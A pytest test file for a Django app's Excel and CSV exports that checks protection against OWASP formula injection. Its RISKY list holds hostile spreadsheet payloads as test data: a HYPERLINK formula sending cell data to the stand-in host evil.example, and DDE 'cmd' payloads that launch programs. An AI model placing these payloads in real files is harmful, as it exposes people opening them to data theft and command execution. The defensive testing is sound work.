"""No export of the app can produce a cell that a spreadsheet program evaluates (OWASP CSV/formula injection):
each written file is opened with openpyxl; no cell holds a formula and every risky text is neutralised."""

import io
import zipfile

import pytest
from openpyxl import load_workbook

from config.spreadsheet import RISKY_FIRST, SafeCsvWriter, safe_text, unneutralise
from criteria import evaluation
from criteria.selectors import catalogue_for_set
from reports.excel import report_workbook

from .helpers import save

RISKY = ['=HYPERLINK("http://evil.example/?x="&A1,"bấm")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
         "\t=1+1", "\r=1+1", "=cmd|'/C calc'!A0"]


def _cells(content: bytes):
    workbook = load_workbook(io.BytesIO(content))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            yield from row


def _assert_nothing_evaluates(content: bytes) -> list[str]:
    """Every cell of the file: never a formula; a text beginning with a risky character only as our label
    with the quote prefix (shown as text) — user texts carry the OWASP leading quote. Returns the texts."""
    texts = []
    for cell in _cells(content):
        assert cell.data_type != "f", (cell.parent.title, cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            texts.append(cell.value)
            if cell.value.startswith(RISKY_FIRST):
                assert cell.quotePrefix is True and cell.value in ("= Có", "= Không"), (cell.coordinate, cell.value)
    # the raw XML has no <f> element anywhere (what a spreadsheet program would compute)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    return texts


def test_safe_text_follows_owasp_and_round_trips():
    assert [safe_text(text) for text in RISKY] == ["'" + text for text in RISKY]
    assert safe_text("Đạt 85%") == "Đạt 85%" and safe_text("") == ""
    assert [unneutralise(safe_text(text)) for text in [*RISKY, "'quoted", "plain"]] == [*RISKY, "'quoted", "plain"]


def test_csv_writer_neutralises_every_field():
    buffer = io.StringIO()
    SafeCsvWriter(buffer).writerows([["03260", RISKY[0], 12.5], [RISKY[3], None, "ok"]])
    assert buffer.getvalue().splitlines() == [
        '03260,"\'=HYPERLINK(""http://evil.example/?x=""&A1,""bấm"")",12.5', '"\'@SUM(1,2)",,ok',
    ]


@pytest.mark.django_db
def test_the_assessment_workbook_writes_notes_and_names_as_text(login, cast, set_2016, commune_a):
    commune_a.name = "=Xã Rạng Đông"
    commune_a.save(update_fields=["name"])
    codes = ["10", "14.2", "14.3", "15.1", "15.3", "17.8", "2.1"]
    catalogue = catalogue_for_set(set_2016)
    entries = [{"indicator": code, "value": 50, "note": note} for code, note in zip(codes, RISKY, strict=True)]
    for entry in entries:
        if evaluation.is_judged(catalogue.by_code[entry["indicator"]], "TDMNPB"):
            entry["met"] = True
    save(commune_a, set_2016, entries, cast.officer_a)
    response = login(cast.officer_a).get("/criteria/excel/download/", {"district": "099", "period": "2021-H1"})
    assert response.status_code == 200
    texts = _assert_nothing_evaluates(response.content)
    assert set(texts) >= {"'" + note.strip() for note in RISKY} | {"'=Xã Rạng Đông", "= Có"}


@pytest.mark.django_db
def test_the_api_workbook_is_the_same_file(api, cast, set_2016, commune_a):
    save(commune_a, set_2016, [{"indicator": "10", "value": 40, "note": RISKY[0]}], cast.officer_a)
    response = api(cast.officer_a).get("/api/v1/workbooks/", {"district": "099", "period": "2021-H1"})
    assert response.status_code == 200
    assert "'" + RISKY[0] in _assert_nothing_evaluates(response.content)


def _snapshot(text: str) -> dict:
    """A report snapshot whose every text field begins with a risky character."""
    district_row = {"code": "099", "name": text, "communes_total": 2, "communes": 2, "avg_criteria": "11.5",
                    "met_all": 1, "standard_or_higher": 1, "basic": 0, "below_5": 0}
    place = {"code": "03260", "name": text, "district": text}
    return {
        "document": {"issuer": text, "title": text, "subtitle": text},
        "cut_off": "2021-08-29", "data_cutoff_date": "2021-08-29", "period": "2021-H1",
        "ntm": {
            "criteria_count": 19, "criteria": [{"number": 1, "name": text, "communes_met": 1, "percent": "50.0",
                                                "communes_basically_met": 0}],
            "communes": 2, "communes_total": 2, "avg_criteria": "11.5", "met_all": 1, "below_5": 0,
            "by_level": [{"label": text, "communes": 1}], "by_score": [{"score": 19, "communes": 1}],
            "districts": [district_row],
            "matrix": {"criteria": [1], "rows": [{**place, "cells": ["D"], "met_count": 1}]},
            "targets": {"by_level": [{"label": text, "target": 1, "achieved": 1}],
                        "districts": [{"district": text, "level": text, "target": 1, "actual": 0}],
                        "communes": [{**place, "level": text, "level_at": text, "achieved": False}]},
            "at_risk": [{**place, "items": [{"criterion": 14, "indicator": "14.2", "indicator_name": text,
                                             "value": "71", "comparator": "≥", "threshold": "70"}]}],
            "slipped": [{**place, "criterion": 5, "criterion_name": text, "previous_period": "2020-H2"}],
            "closest": [{**place, "met_count": 18, "missing": text}],
        },
        "ocop": {"stars": [3, 4, 5], "by_district": [{"name": text, "products": 1, "by_stars": [1, 0, 0], "flagship": 0}],
                 "expiring": [{"name": text, "producer": text, "district": text, "stars": 3, "expires": "2021-10-01"}]},
        "tasks": {"overdue_tasks": [{"document": text, "content": text, "lead_agency": text, "due_date": "2021-06-30",
                                     "due_label": text, "status_label": text, "is_overdue": True}],
                  "open_tasks": [], "done_tasks": []},
    }


@pytest.mark.parametrize("text", RISKY)
def test_the_report_workbook_writes_every_text_as_text(text):
    content = report_workbook(_snapshot(text))
    texts = _assert_nothing_evaluates(content)
    stored = ("'" + text).replace("\r", "\n")  # XML reads a carriage return back as a line feed
    assert texts.count(stored) >= 20  # every table carried it, neutralised
    assert text not in texts
